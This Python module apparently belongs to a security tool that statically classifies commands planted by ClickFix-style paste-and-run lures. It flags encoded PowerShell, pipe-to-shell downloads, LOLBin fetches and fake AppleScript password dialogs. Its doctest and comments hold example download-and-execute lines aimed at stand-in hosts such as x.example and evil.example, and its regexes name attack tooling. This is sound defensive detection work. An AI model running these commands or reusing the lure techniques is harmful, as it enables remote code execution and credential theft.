"""What a command would do if a visitor pasted it into the Run dialog or a terminal.

Paste-and-run lures (ClickFix, fake CAPTCHAs, "fix your camera" pages) put a command in the
clipboard; ``classify_command`` reads that text, without running anything, and says:

- ``kind``: the interpreter that would run it: ``powershell``, ``mshta``, ``cmd``, ``rundll32``,
  ``regsvr32``, ``msiexec``, ``shell`` (sh/bash/zsh), ``osascript``, ``base64`` (a bare blob),
  ``download`` (fetches a file, runs nothing) or ``text`` (nothing recognised);
- ``techniques``: what it does and how it hides (``encoded-command``, ``hidden-window``,
  ``invoke-expression``, ``pipe-to-shell``, ``decoy-comment``...); ``stealth`` is the subset no
  honest copy button uses;
- ``downloads_and_runs``: it fetches code and runs it; ``dangerous``: it runs remote code or
  hides what it does;
- ``urls`` / ``hosts`` it would fetch, including those of encoded layers (``-EncodedCommand``
  is decoded as UTF-16LE base64, ``echo ... | base64 -d | bash`` as UTF-8), whose own
  classification is ``inner``;
- ``decoy_comment``: the ClickFix hallmark, a trailing ``# ✅ I am not a robot - reCAPTCHA
  Verification ID: 1234`` (the Run dialog's narrow box shows only the end of what was pasted).

Pure: text in, ``CommandClass`` (the report's ``clipboard[].classification``) out.
"""

from __future__ import annotations

import base64
import binascii
import re

from spyglass.analyze.domains import host_of
from spyglass.models.actions import CommandClass

# Techniques that hide what a command does or fetch code through a Windows binary built for
# something else: no documentation copy button writes one of these.
STEALTH = frozenset(
    {
        "encoded-command",
        "hidden-window",
        "headless-console",
        "base64-decode",
        "decoy-comment",
        "padding",
        "remote-script",
        "lolbin-download",
        "remote-dll",
        "remote-installer",
        "shell-in-applescript",
        "password-prompt",
    }
)

_MAX_DEPTH = 3
# Longer clipboard text is classified by its beginning: real lures' commands are a few hundred
# characters (an encoded one a few thousand) and the patterns' cost grows with the length.
MAX_CLASSIFIED = 65536

_URL = re.compile(r"""https?://[^\s'"`<>|;)\]}\\^,]+""", re.IGNORECASE)
# Schemeless targets: `irm bun.sh/install.ps1 | iex`, `curl evil.example/x.sh | sh`.
_BARE_TARGET = re.compile(
    r"""(?:\b(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod|mshta)(?:\.exe)?\s+"""
    r"""(?:-{1,2}[\w-]+(?:[=\s]+'[^'\n]{0,300}'|\s+"[^"\n]{0,300}"|[=\s]+[^\s'"-]\S{0,300})?\s+)"""
    r"""{0,8})['"(]?"""
    r"""((?:[a-z0-9-]+\.)+[a-z]{2,}(?::\d+)?/[^\s'"`<>|;)]*)""",
    re.IGNORECASE,
)
_TRAILING = "'\".,;:)]}"

_POWERSHELL = re.compile(r"(?:^|[\s\\/'\"(&|;])(?:powershell|pwsh)(?:\.exe)?\b", re.IGNORECASE)
_PS_FLAG = re.compile(r"(?:^|\s)[-/]([a-z]+)(?=[\s:'\"]|$)", re.IGNORECASE)
_PS_ENCODED = re.compile(r"""(?:^|\s)[-/](e|ec|en[a-z]*)\s+['"]?([A-Za-z0-9+/]{8,}={0,2})""", re.I)
_PS_WINDOW = re.compile(r"""(?:^|\s)[-/](w[a-z]*)\s+['"]?(h[a-z]*|1|min[a-z]*)\b""", re.I)
_PS_IEX = re.compile(r"\b(?:iex|invoke-expression)\b|\|\s*&\s*\(|\.\s*\(\s*\$", re.I)
_PS_DOWNLOAD = re.compile(
    r"\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|downloadfile|"
    r"downloaddata|net\.webclient|start-bitstransfer|wget|curl)\b",
    re.I,
)
_PS_START = re.compile(r"\b(?:start-process|saps)\b", re.I)

_MSHTA = re.compile(
    r"\bmshta(?:\.exe)?\s+['\"]?(?:https?:|\\\\|javascript:|vbscript:|[\w-]+\.)", re.I
)
_CMD = re.compile(r"\bcmd(?:\.exe)?\s+/[ckr]\b", re.I)
# Gaps between a program and its argument are bounded: an unbounded one makes a search over
# text repeating the program name quadratic, and clipboard text is the page's to choose.
_CERTUTIL = re.compile(r"\bcertutil(?:\.exe)?\b[^&|\n]{0,400}-urlcache", re.I)
_BITSADMIN = re.compile(r"\bbitsadmin(?:\.exe)?\b[^&|\n]{0,400}/transfer", re.I)
_CURL_WGET = re.compile(r"\b(?:curl|wget)(?:\.exe)?\s", re.I)
_RUNDLL = re.compile(r"\b(rundll32|regsvr32)(?:\.exe)?\b", re.I)
_UNC = re.compile(r"\\\\[\w.-]+(?:@ssl)?(?:@\d+)?\\", re.I)
_MSIEXEC = re.compile(
    r"\bmsiexec(?:\.exe)?\b[^\n]{0,400}?/(?:i|package)\s+['\"]?(?:https?:|\\\\)", re.I
)
_CONHOST = re.compile(r"\bconhost(?:\.exe)?\s+(?:--headless|/headless)", re.I)

# Where a pipe feeds an interpreter; the fetcher is looked for in the pipe's left-hand segment.
_SHELL_SINK = re.compile(
    r"\|\s*(?:sudo\s+(?:-\w+\s+){0,4})?(?:/usr)?(?:/bin/)?"
    r"(?:(?:ba|z|da|k|fi)?sh|python3?|perl|ruby)\b",
    re.I,
)
_FETCHER = re.compile(r"\b(?:curl|wget)\b", re.I)
_SUBSHELL_FETCH = re.compile(
    r"""(?:\b(?:ba|z|da)?sh\s+-c\s*['"]?\s*\$\(|\beval\s+['"]?\$\(|"""
    r"""(?:\b(?:ba|z|da)?sh|\bsource|\.)\s+<\()\s*(?:curl|wget)\b""",
    re.I,
)
_STEP = re.compile(r"&&|\|\||;|\n")
# A later step that runs what an earlier one fetched: chmod +x, nohup, sh FILE, open FILE, a path.
_RUN_STEP = re.compile(
    r"chmod\s+\+?[0-7]*x|\bnohup\b|\bxattr\s+-c|"
    r"^\s*(?:sudo\s+)?(?:(?:ba|z)?sh|open)\s+[\w/~.$-]|^\s*(?:\.{0,2}/|~/|\$\w)",
    re.I,
)
_OSASCRIPT = re.compile(r"\bosascript\b", re.I)
_APPLESCRIPT_SHELL = re.compile(r"do\s+shell\s+script", re.I)
# Atomic-style stealers ask for the login password in a fake system dialog.
_APPLESCRIPT_PASSWORD = re.compile(r"display\s+dialog[^\n]{0,400}hidden\s+answer", re.I)

_B64_TO_SHELL = re.compile(
    r"""(?:\becho|\bprintf)\s+(?:-\w+\s+)?['"]?([A-Za-z0-9+/]{16,}={0,2})['"]?\s*\|\s*"""
    r"""base64\s+(?:-d|--decode|-D)\b(?P<rest>[^\n]*)""",
    re.I,
)
_B64_SUBSHELL = re.compile(
    r"""\$\(\s*(?:echo|printf)\s+(?:-\w+\s+)?['"]?([A-Za-z0-9+/]{16,}={0,2})['"]?\s*\|\s*"""
    r"""base64\s+(?:-d|--decode|-D)\s*\)""",
    re.I,
)
_B64_BLOB = re.compile(r"^[A-Za-z0-9+/\s]{40,}={0,2}$")

# `#` (PowerShell, sh), `rem` / `::` (cmd) open the comment holding the fake verification the
# visitor sees in the Run dialog instead of the command.
_COMMENT_MARK = re.compile(r"(?<=[\s&])(?:#|::|rem\s)", re.I)
_DECOY_WORDS = re.compile(
    r"robot|captcha|verif|human|cloudflare|ray\s*id|\bid\s*:|✅|✔|☑|security check", re.I
)
_PADDING = re.compile(r"[ \t\u00a0\u2000-\u200b\u3000]{20,}")

_DOWNLOAD_ONLY = re.compile(r"\b(?:curl|wget|iwr|invoke-webrequest)\b", re.I)

_KIND_LABELS = {
    "powershell": "PowerShell command",
    "mshta": "mshta command",
    "cmd": "cmd command",
    "rundll32": "rundll32 command",
    "regsvr32": "regsvr32 command",
    "msiexec": "msiexec command",
    "shell": "shell command",
    "osascript": "AppleScript (osascript) command",
    "base64": "base64 blob",
    "download": "download command",
    "text": "text",
}
_TECHNIQUE_WORDS = {
    "encoded-command": "encoded",
    "hidden-window": "in a hidden window",
    "headless-console": "in a headless console",
    "base64-decode": "base64-encoded",
    "decoy-comment": "behind a fake verification comment",
    "padding": "padded with blanks to hide it",
    "shell-in-applescript": "running a shell command",
    "password-prompt": "asking for the login password",
}


def classify_command(text: str, depth: int = 0) -> CommandClass:
    """Classify clipboard text.

    >>> c = classify_command("powershell -w hidden -c \\"iwr https://x.example/s.ps1 | iex\\"")
    >>> c.kind, c.downloads_and_runs, c.stealth, c.urls
    ('powershell', True, ['hidden-window'], ['https://x.example/s.ps1'])
    >>> c.summary
    'PowerShell command (in a hidden window) that downloads and runs https://x.example/s.ps1'
    >>> classify_command("pip install requests").dangerous
    False
    """
    text = text[:MAX_CLASSIFIED].strip()
    techniques: list[str] = []
    comment = _decoy_comment(text)
    if comment is not None:
        techniques.append("decoy-comment")
    if "\n" not in text and _PADDING.search(text.rstrip()):
        # A one-line command with a wide gap pushes its start out of the Run dialog's view;
        # indented code blocks span lines.
        techniques.append("padding")
    if _CONHOST.search(text):
        techniques.append("headless-console")
    kind, platform, runs, decoded = _interpret(text, techniques)
    inner = None
    if decoded is not None and depth < _MAX_DEPTH:
        inner = classify_command(decoded, depth + 1)
        # A bare blob runs nothing by itself; a decoding pipeline runs what it decodes.
        runs = runs or (inner.downloads_and_runs and kind != "base64")
        if kind == "base64" and inner.kind != "text":
            platform = inner.platform
    urls = _urls(text)
    for url in inner.urls if inner else []:
        if url not in urls:
            urls.append(url)
    techniques = list(dict.fromkeys(techniques))
    stealth = [t for t in techniques if t in STEALTH]
    dangerous = runs or bool(stealth and kind != "text") or kind == "osascript"
    if kind == "base64":
        dangerous = bool(inner and inner.dangerous)
    if inner is not None:
        stealth = list(dict.fromkeys(stealth + inner.stealth))
        dangerous = dangerous or inner.dangerous
    result = CommandClass(
        kind=kind,
        platform=platform,
        dangerous=dangerous,
        downloads_and_runs=runs,
        techniques=techniques,
        stealth=stealth,
        urls=urls,
        hosts=list(dict.fromkeys(h for h in (host_of(u) for u in urls) if h)),
        decoded=decoded,
        inner=inner,
        decoy_comment=comment,
    )
    result.summary = describe(result)
    return result


def describe(command: CommandClass) -> str:
    """A phrase for an analyst: "PowerShell command (encoded) that downloads and runs URL"."""
    label = _KIND_LABELS.get(command.kind, command.kind)
    how = [_TECHNIQUE_WORDS[t] for t in command.stealth if t in _TECHNIQUE_WORDS]
    phrase = f"{label} ({', '.join(how)})" if how else label
    shown = ", ".join(command.urls[:3]) or ", ".join(command.hosts[:3])
    if command.downloads_and_runs:
        return f"{phrase} that downloads and runs {shown}" if shown else f"{phrase} that runs code"
    if shown and command.kind != "text":
        return f"{phrase} that fetches {shown}"
    return phrase


def _interpret(text: str, techniques: list[str]) -> tuple[str, str | None, bool, str | None]:
    """-> (kind, platform, downloads_and_runs, decoded inner layer); adds to ``techniques``."""
    if _POWERSHELL.search(text) or (_PS_IEX.search(text) and _PS_DOWNLOAD.search(text)):
        return _powershell(text, techniques)
    if _MSHTA.search(text):
        techniques.append("remote-script")
        return "mshta", "windows", True, None
    if (match := _RUNDLL.search(text)) and (_URL.search(text) or _UNC.search(text)):
        techniques.append("remote-dll")
        return match[1].lower(), "windows", True, None
    if _MSIEXEC.search(text):
        techniques.append("remote-installer")
        return "msiexec", "windows", True, None
    if _CMD.search(text) or "headless-console" in techniques:
        return _cmd(text, techniques)
    if match := _B64_TO_SHELL.search(text) or _B64_SUBSHELL.search(text):
        techniques.append("base64-decode")
        decoded = _b64(match[1], "utf-8")
        rest = match.groupdict().get("rest") or ""
        runs = match.re is _B64_SUBSHELL or bool(
            re.search(r"\|\s*(?:sudo\s+)?(?:/bin/)?(?:ba|z|da)?sh\b", rest)
        )
        if runs:
            techniques.append("pipe-to-shell")
        return "shell", _unix_platform(text), runs, decoded
    if _OSASCRIPT.search(text):
        techniques.append("applescript")
        if _APPLESCRIPT_SHELL.search(text):
            techniques.append("shell-in-applescript")
        if _APPLESCRIPT_PASSWORD.search(text):
            techniques.append("password-prompt")
        runs = bool(_APPLESCRIPT_SHELL.search(text) and _CURL_WGET.search(text))
        return "osascript", "macos", runs, None
    if _pipes_into_shell(text) or _SUBSHELL_FETCH.search(text):
        techniques.append("pipe-to-shell")
        return "shell", _unix_platform(text), True, None
    if _fetches_then_runs(text):
        techniques.append("download-then-run")
        return "shell", _unix_platform(text), True, None
    if _B64_BLOB.match(text) and (decoded := _b64("".join(text.split()), None)) is not None:
        return "base64", None, False, decoded
    if _DOWNLOAD_ONLY.search(text) and _urls(text):
        techniques.append("download")
        return "download", None, False, None
    return "text", None, False, None


def _powershell(text: str, techniques: list[str]) -> tuple[str, str | None, bool, str | None]:
    decoded = None
    for match in _PS_ENCODED.finditer(text):
        if _is_prefix(match[1], "encodedcommand") or match[1].lower() == "ec":
            decoded = _b64(match[2], "utf-16-le")
            if decoded is not None:
                techniques.append("encoded-command")
                break
    if any(_is_prefix(m[1], "windowstyle") for m in _PS_WINDOW.finditer(text)):
        techniques.append("hidden-window")
    flags = {m[1].lower() for m in _PS_FLAG.finditer(text)}
    if any(_is_prefix(f, "executionpolicy") and len(f) >= 2 for f in flags) or "ep" in flags:
        techniques.append("execution-policy-bypass")
    if any(_is_prefix(f, "noprofile") and len(f) >= 3 for f in flags):
        techniques.append("no-profile")
    iex = bool(_PS_IEX.search(text))
    download = bool(_PS_DOWNLOAD.search(text))
    start = bool(_PS_START.search(text))
    if iex:
        techniques.append("invoke-expression")
    if download:
        techniques.append("download")
    if start:
        techniques.append("start-process")
    runs = download and (iex or start or bool(re.search(r"\.(?:exe|msi|bat|cmd|ps1)\b", text)))
    return "powershell", "windows", runs, decoded


def _cmd(text: str, techniques: list[str]) -> tuple[str, str | None, bool, str | None]:
    if _CERTUTIL.search(text) or _BITSADMIN.search(text):
        techniques.append("lolbin-download")
    elif _CURL_WGET.search(text) and _urls(text):
        techniques.append("download")
    runs = bool({"lolbin-download", "download"} & set(techniques)) and bool(_urls(text))
    return "cmd", "windows", runs, None


def _decoy_comment(text: str) -> str | None:
    """The comment on the last line that carries the fake verification's words, if any."""
    last_line = text.rstrip().rsplit("\n", 1)[-1]
    words = list(_DECOY_WORDS.finditer(last_line))
    if not words:
        return None
    mark = _COMMENT_MARK.search(last_line, 0, words[-1].start())
    if mark is None:
        return None
    return last_line[mark.end() :].strip().rstrip("'\"").strip()


def _pipes_into_shell(text: str) -> bool:
    """``curl ... | sh``: a pipe into an interpreter whose left-hand segment fetches."""
    for sink in _SHELL_SINK.finditer(text):
        begin = text.rfind("|", 0, sink.start()) + 1
        begin = max(begin, text.rfind("\n", begin, sink.start()) + 1)
        if _FETCHER.search(text, begin, sink.start()):
            return True
    return False


def _fetches_then_runs(text: str) -> bool:
    """``curl -o f URL && chmod +x f && ./f``: a step runs what an earlier step fetched."""
    fetched = False
    for step in _STEP.split(text):
        if fetched and _RUN_STEP.search(step):
            return True
        fetched = fetched or bool(_FETCHER.search(step))
    return False


def _urls(text: str) -> list[str]:
    """The http(s) URLs in ``text``, plus schemeless targets of fetching commands."""
    found = [m[0].rstrip(_TRAILING) for m in _URL.finditer(text)]
    for match in _BARE_TARGET.finditer(text):
        target = match[1].rstrip(_TRAILING)
        if not any(target in url for url in found):
            found.append(f"https://{target}")
    return list(dict.fromkeys(found))


def _b64(blob: str, encoding: str | None) -> str | None:
    """Decoded text of a base64 blob; None unless it decodes to printable text.
    ``encoding`` None: UTF-16LE if that reads as text (PowerShell's), else UTF-8."""
    try:
        raw = base64.b64decode(blob + "=" * (-len(blob) % 4), validate=True)
    except (binascii.Error, ValueError):
        return None
    for candidate in [encoding] if encoding else ["utf-16-le", "utf-8"]:
        try:
            text = raw.decode(candidate)
        except UnicodeDecodeError:
            continue
        if text and all(ch.isprintable() or ch in "\r\n\t" for ch in text):
            return text
    return None


def _is_prefix(flag: str, full: str) -> bool:
    """PowerShell accepts any unambiguous prefix of a parameter name (``-enc``, ``-w``)."""
    return full.startswith(flag.lower())


def _unix_platform(text: str) -> str:
    return "macos" if re.search(r"/Users/|osascript|\.dmg\b|\bxattr\b|/Library/", text) else "unix"
